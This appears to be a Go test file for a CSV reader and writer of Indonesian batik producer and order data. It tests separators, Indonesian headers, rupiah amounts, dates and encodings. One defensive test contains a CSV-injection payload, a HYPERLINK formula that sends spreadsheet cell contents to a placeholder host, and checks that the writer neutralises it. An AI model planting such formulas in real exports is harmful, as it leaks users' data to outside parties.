package batik

import (
	"errors"
	"strings"
	"testing"
	"time"

	"github.com/shopspring/decimal"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// Files as Indonesian offices save them: Excel with Indonesian regional
// settings writes ';' between cells and ',' before sen.
func TestReadProducersCSVIndonesianExcel(t *testing.T) {
	in := bom + "Kode;Nama;NIB;Kode Wilayah;Mutu;Teknik;Kapasitas per minggu;Harga satuan\r\n" +
		"SLO-01;Batik Sekar Jagad;1234567890123;33.72;halus;tulis;6;Rp 450.000\r\n" +
		"SLO-01;;;;sedang;Batik Cap;80;95.000\r\n"
	ps, rep, err := ReadProducersCSVWith(strings.NewReader(in), ReadOptions{})
	require.NoError(t, err)
	assert.Equal(t, []Producer{validProducer()}, ps)
	assert.Equal(t, ';', rep.Comma)
	assert.Equal(t, "Kapasitas per minggu", rep.Header[6])
	assert.Empty(t, rep.Ignored)

	// ReadProducersCSV sniffs too.
	ps, err = ReadProducersCSV(strings.NewReader(in))
	require.NoError(t, err)
	assert.Equal(t, []Producer{validProducer()}, ps)
}

func TestReadProducersCSVSeparators(t *testing.T) {
	rows := [][]string{
		{"id", "name", "nib", "region", "grade", "technique", "per_week", "unit_cost"},
		{"SLO-01", "Batik Sekar Jagad", "1234567890123", "33.72", "halus", "tulis", "6", "450000"},
		{"SLO-01", "", "", "", "sedang", "cap", "80", "Rp95.000"},
	}
	join := func(sep string, extra ...string) string {
		var b strings.Builder
		for i, r := range rows {
			b.WriteString(strings.Join(r, sep))
			if i < len(extra) {
				b.WriteString(sep + extra[i])
			}
			b.WriteString("\n")
		}
		return b.String()
	}
	tests := []struct {
		name string
		give string
		opts ReadOptions
		want rune
	}{
		{"comma", join(","), ReadOptions{}, ','},
		{"semicolon", join(";"), ReadOptions{}, ';'},
		{"tab", join("\t"), ReadOptions{}, '\t'},
		{"semicolon given", join(";"), ReadOptions{Comma: ';'}, ';'},
		// The trap: a quoted header cell full of the other separator. Only
		// separators outside quotes count.
		{"commas inside quotes", join(";", `"Catatan, a, b, c, d, e, f, g, h, i"`, "x", "y"), ReadOptions{Ignore: []string{"catatan, a, b, c, d, e, f, g, h, i"}}, ';'},
		{"semicolons inside quotes", join(",", `"Catatan; a; b; c; d; e; f; g; h; i"`, "x", "y"), ReadOptions{Ignore: []string{"Catatan; a; b; c; d; e; f; g; h; i"}}, ','},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			ps, rep, err := ReadProducersCSVWith(strings.NewReader(tt.give), tt.opts)
			require.NoError(t, err)
			assert.Equal(t, tt.want, rep.Comma)
			require.Len(t, ps, 1)
			assert.Equal(t, validProducer(), ps[0])
		})
	}

	// As many ';' as ',' outside quotes: the file cannot tell.
	_, err := ReadProducersCSV(strings.NewReader("id;name,nib\n"))
	assert.Equal(t, []string{"1:0::separator"}, rowTags(t, err))
	// A separator option must be one of the three.
	_, _, err = ReadProducersCSVWith(strings.NewReader(join(",")), ReadOptions{Comma: '|'})
	assert.Equal(t, []string{"1:0::separator_option"}, rowTags(t, err))
	// A wrong separator given is reported as unknown columns that say which
	// separator was used.
	_, _, err = ReadProducersCSVWith(strings.NewReader(join(";")), ReadOptions{Comma: ','})
	var de *DataError
	require.True(t, errors.As(err, &de))
	assert.Contains(t, strings.Join(de.Messages(English), "\n"), "separator ','")
}

func TestReadProducersCSVIndonesianHeaders(t *testing.T) {
	rows := "SLO-01,Batik Sekar Jagad,1234567890123,33.72,halus,tulis,6,450000\nSLO-01,,,,sedang,cap,80,95000\n"
	for _, h := range []string{
		"ID,Nama,NIB,Wilayah,Kualitas,Teknik,Kapasitas per minggu,Ongkos per potong",
		"kode,NAMA,nib,KODE WILAYAH,mutu,TEKNIK,kapasitas_per_minggu,Harga-Satuan",
		"Kode Produsen, Nama Usaha ,Nomor Induk Berusaha,kode  wilayah,Mutu,Teknik,KAPASITAS  PER  MINGGU,ongkos",
	} {
		ps, err := ReadProducersCSV(strings.NewReader(h + "\n" + rows))
		require.NoError(t, err, h)
		assert.Equal(t, []Producer{validProducer()}, ps, h)
	}
	// An Indonesian name for a column already given in English.
	_, err := ReadProducersCSV(strings.NewReader("id,name,nib,region,grade,technique,per_week,unit_cost,Nama\n"))
	assert.Equal(t, []string{"1:9:name:repeated"}, rowTags(t, err))
	var de *DataError
	require.True(t, errors.As(err, &de))
	assert.Equal(t, `baris 1, kolom 9: kolom "Nama" mengulang kolom "name" (kolom yang sama dengan dua nama)`, de.Rows[0].Message(Indonesian))
	// Missing columns are named in both languages.
	_, err = ReadProducersCSV(strings.NewReader("kode,nama,wilayah,mutu,teknik,kapasitas per minggu\n"))
	require.True(t, errors.As(err, &de))
	assert.Equal(t, `baris 1: kolom wajib "harga satuan" ("unit_cost") tidak ada di baris judul`, de.Rows[0].Message(Indonesian))
}

func TestReadOrdersCSVIndonesian(t *testing.T) {
	in := "Kode Pesanan;Kode Produk;Teknik;Mutu minimal;Jumlah;Tanggal jatuh tempo\n" +
		"O-1;KMJ-1;Batik Cap;sedang;100;21/12/2026\n" +
		"O-2;;tulis;halus;5;21-12-2026\n" +
		"O-3;;tulis;halus;5;12/21/2026\n"
	os, rep, err := ReadOrdersCSVWith(strings.NewReader(in), ReadOptions{})
	assert.Equal(t, ';', rep.Comma)
	assert.Equal(t, []string{"4:6:due:date"}, rowTags(t, err))
	require.Len(t, os, 2)
	assert.Equal(t, MustDate(2026, time.December, 21), os[0].Due)
	assert.Equal(t, os[0].Due, os[1].Due)
	var de *DataError
	require.True(t, errors.As(err, &de))
	msg := de.Rows[0].Message(Indonesian)
	assert.Contains(t, msg, "Tanggal jatuh tempo harus tanggal")
	assert.Contains(t, msg, "HH/BB/TTTT (21/12/2026)")
	assert.NotContains(t, msg, "due")
	assert.Contains(t, de.Rows[0].Message(English), DateForms)
	// Tenggat is the other name of the due column.
	os, err = ReadOrdersCSV(strings.NewReader("id,technique,min_grade,jumlah,tenggat\nO-1,cap,sedang,3,2026-12-21\n"))
	require.NoError(t, err)
	assert.Equal(t, MustDate(2026, time.December, 21), os[0].Due)
}

func TestReadProducersCSVExtraColumns(t *testing.T) {
	const h = "id,name,nib,region,grade,technique,per_week,unit_cost"
	const row = "SLO-01,Batik Sekar Jagad,1234567890123,33.72,halus,tulis,6,450000"
	const row2 = "SLO-01,,,,sedang,cap,80,95000"
	// Notes are refused unless asked for, then skipped and reported.
	in := h + ",Catatan\n" + row + ",langganan lama\n" + row2 + ",\n"
	_, err := ReadProducersCSV(strings.NewReader(in))
	assert.Equal(t, []string{"1:9::column"}, rowTags(t, err))
	ps, rep, err := ReadProducersCSVWith(strings.NewReader(in), ReadOptions{Ignore: []string{"catatan"}})
	require.NoError(t, err)
	assert.Equal(t, []Producer{validProducer()}, ps)
	assert.Equal(t, []string{"Catatan"}, rep.Ignored)

	// Excel's empty trailing header cell with empty cells below is fine.
	in = h + ",\n" + row + ",\n" + row2 + ",\n"
	ps, rep, err = ReadProducersCSVWith(strings.NewReader(in), ReadOptions{})
	require.NoError(t, err)
	assert.Equal(t, []Producer{validProducer()}, ps)
	assert.Equal(t, []string{`""`}, rep.Ignored)
	// ... but a value under a column without a name is not dropped silently.
	in = h + ",\n" + row + ",lupa\n" + row2 + ",\n"
	_, err = ReadProducersCSV(strings.NewReader(in))
	assert.Equal(t, []string{"2:9::unnamed"}, rowTags(t, err))
}

func TestReadProducersCSVAmounts(t *testing.T) {
	for give, want := range map[string]string{
		"450000": "450000", "Rp 450.000": "450000", "Rp450.000": "450000", `"85.000,50"`: "85000.5",
		`"Rp85.000,50"`: "85000.5", `"Rp450.000,-"`: "450000", `"85000,5"`: "85000.5", " 450.000 ": "450000",
	} {
		ps, err := ReadProducersCSV(strings.NewReader(header + "A,B,,33.72,halus,cap,1," + give + "\n"))
		require.NoError(t, err, give)
		assertDecimal(t, want, ps[0].Capabilities[0].UnitCost)
	}
	for give, code := range map[string]string{"84.5": "group", "0.500": "leading_zero", "1e5": "exponent", "85000.50": "first_group", "Rp": "no_digits", "": "empty"} {
		_, err := ReadProducersCSV(strings.NewReader(header + "A,B,,33.72,halus,cap,1," + give + "\n"))
		assert.Equal(t, []string{"2:8:unit_cost:amount_" + code}, rowTags(t, err), give)
	}
	// Messages name the column as the file names it, with no English in
	// the Indonesian.
	_, err := ReadProducersCSV(strings.NewReader("kode,nama,wilayah,mutu,teknik,kapasitas per minggu,Harga Satuan\nA,B,33.72,halus,cap,1.000,84.5\n"))
	var de *DataError
	require.True(t, errors.As(err, &de))
	msgs := de.Messages(Indonesian)
	assert.Equal(t, []string{
		`baris 2, kolom 6: kapasitas per minggu harus bilangan bulat tanpa pemisah ribuan, isinya "1.000"`,
		`baris 2, kolom 7: Harga Satuan: '.' memisahkan ribuan dan harus diikuti tepat 3 angka; pemisah desimal adalah ','` + `, isinya "84.5"`,
	}, msgs)
}

func TestReadProducersCSVEncoding(t *testing.T) {
	// Excel's legacy "CSV (Comma delimited)" writes Windows-1252: 0x96 is an en dash.
	in := header + "SLO-03,Canting Mas \x96 Pasar Kliwon,,33.72,halus,tulis,4,520000\n"
	ps, err := ReadProducersCSV(strings.NewReader(in))
	assert.Equal(t, []string{"2:2::utf8"}, rowTags(t, err))
	assert.Empty(t, ps)
	assert.Contains(t, err.Error(), `save the file as "CSV UTF-8"`)
	var de *DataError
	require.True(t, errors.As(err, &de))
	assert.Contains(t, de.Rows[0].Message(Indonesian), `simpan berkas sebagai "CSV UTF-8"`)

	ps, _, err = ReadProducersCSVWith(strings.NewReader(in), ReadOptions{Windows1252: true})
	require.NoError(t, err)
	assert.Equal(t, "Canting Mas \u2013 Pasar Kliwon", ps[0].Name)
}

// The writer defuses cells a spreadsheet would run as formulas (OWASP CSV
// injection) and the reader undoes it; validation refuses such names.
func TestWriteProducersCSVInjection(t *testing.T) {
	p := validProducer()
	p.Name = `=HYPERLINK("http://x.example/?"&A1,"klik")`
	var buf strings.Builder
	require.NoError(t, WriteProducersCSV(&buf, []Producer{p}))
	assert.Contains(t, buf.String(), `"'=HYPERLINK(""http://x.example/?""&A1,""klik"")"`)
	for _, lead := range []string{"=", "+", "-", "@", "\t", "\r"} {
		assert.Equal(t, "'"+lead+"x", safeCell(lead+"x"))
	}
	assert.Equal(t, "x=", safeCell("x="))
	_, err := ReadProducersCSV(strings.NewReader(buf.String()))
	assert.Equal(t, []string{"2:2:name:notformula"}, rowTags(t, err))
	require.ErrorIs(t, p.Validate(), ErrInvalid)
}

// What the writer writes, the reader reads back exactly, quotes, commas
// and semicolons inside cells included. Line breaks inside a name do not
// travel: validation refuses control characters in names, and encoding/csv
// would turn a quoted CRLF into LF.
func TestWriteReadProducersCSVExact(t *testing.T) {
	p := validProducer()
	p.Name = "Batik \"Pagi, Sore\"; Pekalongan"
	p.Capabilities[1].UnitCost = decimal.RequireFromString("95000.5")
	var buf strings.Builder
	require.NoError(t, WriteProducersCSV(&buf, []Producer{p}))
	got, err := ReadProducersCSV(strings.NewReader(buf.String()))
	require.NoError(t, err)
	require.Len(t, got, 1)
	assert.Equal(t, p, got[0])
	assertDecimal(t, "95000.5", got[0].Capabilities[1].UnitCost)
}
